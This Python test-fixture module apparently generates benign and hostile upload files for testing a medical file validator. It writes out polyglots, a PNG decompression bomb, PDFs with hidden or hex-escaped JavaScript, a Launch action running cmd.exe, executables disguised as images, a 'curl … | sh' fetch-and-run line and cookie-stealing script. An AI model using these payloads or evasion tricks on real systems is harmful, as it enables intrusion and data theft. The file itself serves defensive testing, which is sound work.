"""Real test files, benign and hostile, written into a directory (tmp_path). Each maker returns the file's path.

Everything is generated here (Pillow, pillow-heif, pypdf, pydicom's bundled files, hand-built boxes): nothing is
downloaded and no live malware is involved. The "malware" marker for the fake clamd is a plain string on purpose,
so that no real antivirus flags this repository.
"""

import io
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pillow_heif
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pydicom.data import get_testdata_file
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid
from pypdf import PdfReader, PdfWriter

FAKE_MALWARE_MARKER = b"TELEEXPERTISE-FAKE-MALWARE-MARKER"
RED, BLUE = (255, 0, 0), (0, 0, 255)


def _write(directory: Path, name: str, data: bytes) -> Path:
    path = Path(directory) / name
    path.write_bytes(data)
    return path


# --- Photos --------------------------------------------------------------------------------------------------------


def _gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Apple"  # Make
    exif[0x0110] = "iPhone 15 Pro"  # Model
    exif[0x0112] = orientation
    exif[0x8825] = {  # GPSInfo: Paris
        1: "N",
        2: (48.0, 51.0, 24.0),
        3: "E",
        4: (2.0, 21.0, 3.0),
        0x1B: b"ASCII\x00\x00\x00GPS fix",  # GPSProcessingMethod: readable bytes to look for afterwards
    }
    return exif


def _noise(size=(64, 48)) -> Image.Image:
    rng = np.random.default_rng(42)
    return Image.fromarray(rng.integers(0, 255, (size[1], size[0], 3), dtype=np.uint8), "RGB")


def jpeg_bytes(image: Image.Image | None = None, **options) -> bytes:
    buffer = io.BytesIO()
    (image or _noise()).save(buffer, "JPEG", quality=90, **options)
    return buffer.getvalue()


def jpeg_with_gps(directory: Path) -> Path:
    data = jpeg_bytes(exif=_gps_exif(), comment=b"Patient Dupont", xmp=b"<x:xmpmeta>Dr Martin</x:xmpmeta>")
    return _write(directory, "IMG_0042.JPG", data)


def jpeg_rotated(directory: Path) -> Path:
    """Stored 40x20, left half red, right half blue; EXIF orientation 6 asks viewers to turn it 90 degrees clockwise."""
    image = Image.new("RGB", (40, 20), BLUE)
    image.paste(Image.new("RGB", (20, 20), RED), (0, 0))
    return _write(directory, "rotated.jpg", jpeg_bytes(image, exif=_gps_exif(orientation=6)))


def jpeg_with_icc(directory: Path, mode: str = "RGB") -> Path:
    """A JPEG carrying an (RGB) ICC profile; in CMYK mode the profile does not match the pixels."""
    image = Image.new("RGB", (32, 32), (200, 30, 30)).convert(mode)
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return _write(directory, f"icc-{mode.lower()}.jpg", jpeg_bytes(image, icc_profile=profile))


def jpeg_mpo(directory: Path) -> Path:
    """A two-picture MPO (what some cameras write): libmagic says JPEG, Pillow sees two frames."""
    buffer = io.BytesIO()
    _noise().save(buffer, "MPO", save_all=True, append_images=[Image.new("RGB", (64, 48), BLUE)])
    return _write(directory, "stereo.jpg", buffer.getvalue())


def jpeg_truncated(directory: Path) -> Path:
    data = jpeg_bytes(_noise((256, 256)))
    return _write(directory, "truncated.jpg", data[: len(data) // 2])


def jpeg_zip_polyglot(directory: Path) -> Path:
    return _write(directory, "polyglot.jpg", jpeg_bytes() + zip_bytes())


def png_with_text(directory: Path) -> Path:
    info = PngInfo()
    info.add_text("Author", "Dr Martin")
    info.add_text("Comment", "Patient Dupont, ne le 01/02/1960", zip=True)
    info.add_itxt("Description", "Lesion cutanee", lang="fr")
    buffer = io.BytesIO()
    Image.new("RGBA", (30, 20), (10, 200, 10, 128)).save(buffer, "PNG", pnginfo=info, exif=_gps_exif())
    return _write(directory, "capture.png", buffer.getvalue())


def png_animated(directory: Path) -> Path:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), RED), Image.new("RGB", (16, 16), BLUE)]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:], duration=100)
    return _write(directory, "animated.png", buffer.getvalue())


def png_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 8
    while position < len(data):
        length, kind = struct.unpack(">I4s", data[position : position + 8])
        chunks.append(kind)
        position += 12 + length
    return chunks


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_bomb(directory: Path, side: int = 20_000) -> Path:
    """A 1-bit grey PNG declaring side x side pixels of zero rows: a few kilobytes on disk, gigabytes decoded."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
    return _write(directory, "bomb.png", data)


def heic_photo(directory: Path) -> Path:
    image = _noise()
    heif = pillow_heif.from_pillow(image)
    buffer = io.BytesIO()
    heif.save(buffer, quality=85, exif=_gps_exif().tobytes())
    return _write(directory, "IMG_0042.HEIC", buffer.getvalue())


def gifar(directory: Path) -> Path:
    """A GIF with a Java archive appended (GIFAR): GIF is not an accepted photo format."""
    buffer = io.BytesIO()
    Image.new("P", (8, 8)).save(buffer, "GIF")
    return _write(directory, "avatar.jpg", buffer.getvalue() + zip_bytes("META-INF/MANIFEST.MF"))


# --- PDF -----------------------------------------------------------------------------------------------------------


def build_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF with a correct xref. Objects: 1 catalog, 2 pages, 3 page, 4 content, 5 font, 6+ extra."""
    content = b"BT /F1 18 Tf 40 100 Td (Compte rendu) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    return serialise_pdf(objects)


def serialise_pdf(objects) -> bytes:
    """PDF objects (object 1 the catalog) written out with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_report(directory: Path, pages: int = 3) -> Path:
    """A real multi-page PDF written by pypdf from the hand-built one."""
    writer = PdfWriter()
    page = PdfReader(io.BytesIO(build_pdf())).pages[0]
    for _ in range(pages):
        writer.add_page(page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return _write(directory, "compte-rendu.pdf", buffer.getvalue())


def pdf_javascript(directory: Path) -> Path:
    data = build_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert('pwned');) >>")
    return _write(directory, "js.pdf", data)


def pdf_javascript_hidden(directory: Path) -> Path:
    """JavaScript in a link annotation, with its names hex-escaped (/J#61vaScript) to dodge naive byte scans."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /J#61vaScript /J#53 (this.print()) >> >>"
    return _write(directory, "link.pdf", build_pdf(page_extra=b"/Annots [6 0 R]", extra_objects=(link,)))


def pdf_javascript_unreferenced(directory: Path) -> Path:
    """JavaScript in an object no page points to: a more lenient viewer might still find it."""
    orphan = b"<< /S /JavaScript /JS (app.launchURL('http://example.invalid')) >>"
    return _write(directory, "orphan.pdf", build_pdf(extra_objects=(orphan,)))


def pdf_launch(directory: Path) -> Path:
    data = build_pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")
    return _write(directory, "launch.pdf", data)


def pdf_embedded_file(directory: Path) -> Path:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_pdf())))
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    return _write(directory, "attachment.pdf", buffer.getvalue())


def pdf_xfa(directory: Path) -> Path:
    xfa = b"<< /Length 12 >>\nstream\n<xdp:xdp/>\n\nendstream"
    return _write(directory, "xfa.pdf", build_pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra_objects=(xfa,)))


def pdf_encrypted(directory: Path) -> Path:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return _write(directory, "encrypted.pdf", buffer.getvalue())


def pdf_no_pages(directory: Path) -> Path:
    data = build_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0   ")
    return _write(directory, "empty-pages.pdf", data)


def pdf_zip_polyglot(directory: Path) -> Path:
    return _write(directory, "polyglot.pdf", build_pdf() + zip_bytes())


def pdf_zip_polyglot_hidden_eof(directory: Path) -> Path:
    """PDF + ZIP whose archive comment ends with %%EOF, so that the file still "ends" like a PDF."""
    archive = zip_bytes(comment=b"\nstartxref\n0\n%%EOF\n")
    return _write(directory, "polyglot2.pdf", build_pdf() + archive)


def pdf_html_prefix(directory: Path) -> Path:
    """HTML before the PDF header: viewers still find %PDF- in the first kilobyte, browsers run the script."""
    return _write(directory, "prefix.pdf", b"<html><script>alert(1)</script></html>\n" + build_pdf())


# --- DICOM ---------------------------------------------------------------------------------------------------------


def dicom_copy(directory: Path, name: str) -> Path:
    source = get_testdata_file(name, download=False)
    assert source, f"{name} is not bundled with pydicom"
    target = Path(directory) / name
    shutil.copyfile(source, target)
    return target


ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1)


def dicom_with_elf_preamble(directory: Path) -> Path:
    """A real DICOM whose free 128-byte preamble starts like an x86-64 ELF executable."""
    path = dicom_copy(directory, "JPEG2000.dcm")
    data = bytearray(path.read_bytes())
    data[: len(ELF_HEADER)] = ELF_HEADER
    path.write_bytes(bytes(data))
    return path


def dicom_garbage(directory: Path) -> Path:
    return _write(directory, "garbage.dcm", bytes(128) + b"DICM" + b"\xff\xfe\x00\x01garbage" * 20)


def dicom_without_sop_class(directory: Path) -> Path:
    dataset = _dicom_dataset()
    del dataset.SOPClassUID
    return _save_dicom(dataset, Path(directory) / "no-sop.dcm")


def dicom_encapsulated_pdf(directory: Path, pdf: bytes) -> Path:
    dataset = _dicom_dataset(sop_class="1.2.840.10008.5.1.4.1.1.104.1")
    dataset.MIMETypeOfEncapsulatedDocument = "application/pdf"
    dataset.EncapsulatedDocument = pdf + (b"\x00" if len(pdf) % 2 else b"")
    return _save_dicom(dataset, Path(directory) / "encapsulated.dcm")


def _dicom_dataset(sop_class: str = "1.2.840.10008.5.1.4.1.1.7") -> Dataset:
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = sop_class
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = Dataset()
    dataset.file_meta = meta
    dataset.SOPClassUID = sop_class
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.StudyInstanceUID = generate_uid()
    dataset.SeriesInstanceUID = generate_uid()
    dataset.Modality = "OT"
    return dataset


def _save_dicom(dataset: Dataset, path: Path) -> Path:
    dataset.save_as(path, enforce_file_format=True, implicit_vr=False, little_endian=True)
    return path


# --- Video ---------------------------------------------------------------------------------------------------------


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_bytes(brand: bytes = b"isom", compatible: tuple[bytes, ...] = (b"isom", b"iso2", b"avc1", b"mp41")) -> bytes:
    ftyp = _box(b"ftyp", brand + struct.pack(">I", 0x200) + b"".join(compatible))
    mvhd = _box(b"mvhd", bytes(4) + bytes(8) + struct.pack(">II", 1000, 0) + bytes(80))
    return ftyp + _box(b"moov", mvhd) + _box(b"mdat", b"\x00\x00\x00\x02\x09\x10" * 16)


def mp4_video(directory: Path) -> Path:
    return _write(directory, "video.mp4", mp4_bytes())


def mov_video(directory: Path) -> Path:
    return _write(directory, "IMG_0001.MOV", mp4_bytes(b"qt  ", (b"qt  ",)))


def mp4_box_overrun(directory: Path) -> Path:
    """The last box (mdat) claims more bytes than the file holds."""
    data = bytearray(mp4_bytes())
    mdat = data.rindex(b"mdat") - 4
    data[mdat : mdat + 4] = struct.pack(">I", 10_000)
    return _write(directory, "overrun.mp4", bytes(data))


def mp4_without_moov(directory: Path) -> Path:
    data = mp4_bytes()
    ftyp_size = struct.unpack(">I", data[:4])[0]
    moov_size = struct.unpack(">I", data[ftyp_size : ftyp_size + 4])[0]
    return _write(directory, "nomoov.mp4", data[:ftyp_size] + data[ftyp_size + moov_size :])


def m4a_audio(directory: Path) -> Path:
    return _write(directory, "voice.mp4", mp4_bytes(b"M4A ", (b"M4A ", b"isom", b"mp42")))


def _ebml(element_id: bytes, payload: bytes, wide: bool = False) -> bytes:
    """An EBML element; sizes take one byte like most muxers write them, or 8 bytes (also valid) when `wide`."""
    if wide or len(payload) >= 127:
        return element_id + b"\x01" + len(payload).to_bytes(7, "big") + payload
    return element_id + bytes([0x80 | len(payload)]) + payload


def webm_bytes(
    doctype: bytes = b"webm", segment_children: bytes | None = None, unknown_size: bool = False, wide: bool = False
) -> bytes:
    header = _ebml(
        b"\x1a\x45\xdf\xa3",
        _ebml(b"\x42\x86", b"\x01")  # EBMLVersion
        + _ebml(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + _ebml(b"\x42\xf2", b"\x04")  # EBMLMaxIDLength
        + _ebml(b"\x42\xf3", b"\x08")  # EBMLMaxSizeLength
        + _ebml(b"\x42\x82", doctype, wide)  # DocType
        + _ebml(b"\x42\x87", b"\x04")  # DocTypeVersion
        + _ebml(b"\x42\x85", b"\x02"),  # DocTypeReadVersion
    )
    if segment_children is None:
        info = _ebml(b"\x15\x49\xa9\x66", _ebml(b"\x2a\xd7\xb1", b"\x0f\x42\x40"))  # Info / TimestampScale
        tracks = _ebml(b"\x16\x54\xae\x6b", _ebml(b"\xae", _ebml(b"\xd7", b"\x01") + _ebml(b"\x86", b"V_VP9")))
        segment_children = info + tracks
    if unknown_size:
        return header + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + segment_children
    return header + _ebml(b"\x18\x53\x80\x67", segment_children)


def webm_video(directory: Path, **options) -> Path:
    return _write(directory, "video.webm", webm_bytes(**options))


def matroska_video(directory: Path) -> Path:
    return _write(directory, "video.webm", webm_bytes(doctype=b"matroska"))


def webm_with_attachment(directory: Path) -> Path:
    attached = _ebml(b"\x61\xa7", _ebml(b"\x46\x6e", b"run.exe") + _ebml(b"\x46\x5c", b"MZ\x90\x00"))
    return _write(directory, "video.webm", webm_bytes(segment_children=_ebml(b"\x19\x41\xa4\x69", attached)))


def webm_overrun(directory: Path) -> Path:
    data = webm_bytes()
    return _write(directory, "video.webm", data[:-5])


# --- Not accepted at all -------------------------------------------------------------------------------------------


def zip_bytes(name: str = "readme.txt", comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, "payload " * 50)
        archive.comment = comment
    return buffer.getvalue()


def elf_executable(directory: Path) -> Path:
    target = Path(directory) / "rapport.pdf"
    shutil.copyfile("/bin/true", target)
    return target


def pe_executable(directory: Path) -> Path:
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + bytes(0xE0 + 40)
    return _write(directory, "photo.jpg", dos + pe)


def macho_executable(directory: Path) -> Path:
    header = struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0)
    return _write(directory, "scan.png", header + bytes(64))


def shell_script(directory: Path) -> Path:
    return _write(directory, "photo.jpg", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")


def html_page(directory: Path) -> Path:
    return _write(directory, "photo.jpg", b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></html>")


def svg_script(directory: Path) -> Path:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
    return _write(directory, "image.png", svg)


def zip_archive(directory: Path) -> Path:
    return _write(directory, "examens.zip", zip_bytes())


def docx_document(directory: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return _write(directory, "courrier.pdf", buffer.getvalue())


def tiff_image(directory: Path) -> Path:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "TIFF")
    return _write(directory, "scan.jpg", buffer.getvalue())


def empty_file(directory: Path) -> Path:
    return _write(directory, "vide.pdf", b"")


def fake_malware(directory: Path) -> Path:
    return _write(directory, "infected.bin", b"header " + FAKE_MALWARE_MARKER + b" trailer")
